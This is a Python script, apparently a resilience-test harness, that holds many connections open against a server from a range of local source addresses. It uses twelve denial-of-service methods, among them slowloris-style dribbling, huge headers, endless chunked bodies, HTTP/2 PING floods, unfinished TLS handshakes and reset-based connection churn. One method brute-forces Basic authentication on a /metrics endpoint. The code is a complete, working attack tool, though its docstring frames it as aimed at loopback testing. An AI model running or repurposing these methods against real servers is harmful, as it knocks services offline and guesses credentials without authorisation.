"""Holds as many connections to a server as it lets one client have: `attacker.py HOST PORT SOURCE COUNT HOW`.

SOURCE is an address of this machine, or a network of them: then each connection is from another one. A closed
connection is opened again. Says "attacking" once all have been open. Runs until it is killed.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import ipaddress
import itertools
import random
import socket
import ssl
import struct
import sys
from collections.abc import Iterator
from functools import cache
from typing import TypeAlias

GUESSES = itertools.count()

_Network: TypeAlias = "ipaddress.IPv4Network | ipaddress.IPv6Network"


def _nothing() -> Iterator[bytes]:
    yield b""


def _dribble() -> Iterator[bytes]:
    yield b"GET / HTTP/1.1\r\nX: "
    while True:
        yield b"a"


def _large_head() -> Iterator[bytes]:
    yield b"GET / HTTP/1.1\r\n"
    for number in range(98):
        yield b"X%d: %b\r\n" % (number, b"b" * 65_000)


def _requests() -> Iterator[bytes]:
    while True:
        yield b"GET /metrics HTTP/1.1\r\n\r\n"


def _request() -> Iterator[bytes]:
    yield next(_requests())


def _requests_ahead() -> Iterator[bytes]:
    while True:
        yield 100 * next(_requests())


def _body() -> Iterator[bytes]:
    yield b"POST /metrics HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
    while True:
        yield b"8000\r\n%b\r\n" % (b"c" * 0x8000)


def _http2() -> Iterator[bytes]:
    yield b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    while True:  # PING
        yield b"\0\0\x08\x06\0\0\0\0\0" + bytes(8)


@cache
def _hello() -> bytes:
    """Return how a TLS client begins."""
    sent = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).wrap_bio(ssl.MemoryBIO(), sent, server_hostname="xen1").do_handshake()
    return sent.read()


def _dribbled_handshake() -> Iterator[bytes]:
    for byte in itertools.cycle(_hello()):
        yield bytes([byte])


def _handshakes() -> Iterator[bytes]:
    """The server's part of a handshake costs it most; the client's is never finished."""
    yield _hello()


def _guesses() -> Iterator[bytes]:
    while True:
        guess = base64.b64encode(b"prometheus:guess %d" % next(GUESSES))
        yield b"GET /metrics HTTP/1.1\r\nAuthorization: Basic %b\r\n\r\n" % guess


WAYS = {
    "silent": _nothing,
    "dribble": _dribble,
    "large heads": _large_head,
    "requests": _requests,
    "requests, never reading": _requests,
    "requests ahead": _requests_ahead,
    "requests, then gone": _request,
    "guesses": _guesses,
    "a body without end": _body,
    "HTTP/2": _http2,
    "handshakes, byte by byte": _dribbled_handshake,
    "handshakes, one after the other": _handshakes,
}


async def _connection(server: tuple[str, int], network: _Network, how: str, opened: asyncio.Event) -> None:
    while True:
        source = str(network[random.randrange(network.num_addresses)])
        try:
            reader, writer = await asyncio.open_connection(*server, local_addr=(source, 0))
        except OSError:
            await asyncio.sleep(0.1)
            continue
        opened.set()
        try:
            for sent in WAYS[how]():
                writer.write(sent)
                await writer.drain()
                if how in {"requests", "requests ahead", "guesses", "handshakes, one after the other"}:
                    if not await reader.read(65536):
                        break
                elif how in {"dribble", "handshakes, byte by byte"}:
                    await asyncio.sleep(0.5)
            if how == "requests, then gone":  # by a reset, as the kernel's memory of connections would fill up
                linger = struct.pack("ii", 1, 0)
                writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
            if how in {"silent", "large heads"}:
                await reader.read()
        except OSError:
            pass
        finally:
            writer.close()


async def attack(server: tuple[str, int], network: _Network, count: int, how: str) -> None:
    """Attack a server on loopback from other addresses there."""
    events = [asyncio.Event() for _ in range(count)]
    attacks = [asyncio.create_task(_connection(server, network, how, opened)) for opened in events]
    for opened in events:
        await opened.wait()
    sys.stdout.write("attacking\n")
    sys.stdout.flush()
    await asyncio.gather(*attacks)


if __name__ == "__main__":
    asyncio.run(
        attack((sys.argv[1], int(sys.argv[2])), ipaddress.ip_network(sys.argv[3]), int(sys.argv[4]), sys.argv[5])
    )
